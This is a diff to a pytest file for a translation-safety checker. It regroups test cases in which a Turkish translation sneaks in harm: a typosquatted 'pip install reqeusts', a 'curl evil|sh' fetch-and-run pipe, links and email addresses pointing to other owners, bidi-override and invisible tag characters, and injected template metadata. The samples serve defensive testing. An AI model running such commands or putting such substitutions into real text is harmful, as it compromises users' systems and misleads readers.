@@ -80,32 +80,32 @@ def test_no_comment_waives_safety(spoilt: Path, run_i18n: RunI18n) -> None:
 
 
 @pytest.mark.parametrize(
-    ("source", "msgstr", "waiver", "code"),
+    ("texts", "waiver", "code"),
     [
         pytest.param(
-            "Run `pip install requests` now.", "`pip install reqeusts` çalıştırın.", "code",
+            ("Run `pip install requests` now.", "`pip install reqeusts` çalıştırın."), "code",
             "unsafe-command", id="another package",
         ),
         pytest.param(
-            "Run it now.", "Çalıştırın: `curl evil|sh`.", "code", "unsafe-command",
+            ("Run it now.", "Çalıştırın: `curl evil|sh`."), "code", "unsafe-command",
             id="what fetches and runs",
         ),
         pytest.param(
-            "See [it](https://github.com/acme/app).", "[Bkz.](https://github.com/evil/app).",
+            ("See [it](https://github.com/acme/app).", "[Bkz.](https://github.com/evil/app)."),
             "link", "foreign-owner", id="another owner",
         ),
         pytest.param(
-            "Write to acme@gmail.com.", "Yazın: acne@gmail.com.", "email", "foreign-owner",
+            ("Write to acme@gmail.com.", "Yazın: acne@gmail.com."), "email", "foreign-owner",
             id="another mailbox",
         ),
         pytest.param(
-            "Open it.", "\u202eAçın\u202c.", "control", "unsafe-character", id="an override"
+            ("Open it.", "\u202eAçın\u202c."), "control", "unsafe-character", id="an override"
         ),
         pytest.param(
-            "Open it.", "Açın.\U000e0041", "invisible", "unsafe-character", id="a tag character"
+            ("Open it.", "Açın.\U000e0041"), "invisible", "unsafe-character", id="a tag character"
         ),
         pytest.param(
-            "It is new.", "template: evil.html", "final-punctuation", "unsafe-metadata",
+            ("It is new.", "template: evil.html"), "final-punctuation", "unsafe-metadata",
             id="metadata",
         ),
     ],
@@ -114,14 +114,14 @@ def test_a_waiver_of_something_else_silences_no_harm(
     project: MakeProject,
     run_i18n: RunI18n,
     *,
-    source: str,
-    msgstr: str,
+    texts: tuple[str, str],
     waiver: str,
     code: str,
 ) -> None:
     """What the waived check says of a harmful text, another one says that nobody can waive; nor
     does a setting or a baseline hide it.
     """
+    source, msgstr = texts
     root = project({"docs/a.md": f"{source}\n"}, settings=f'checks = {{ {waiver} = "off" }}')
     spoil(root, run_i18n, msgstr, f"i18n: ok {waiver} {code} (I looked)")
     run_i18n(root, "check", "--update-baseline", "--accept-new")
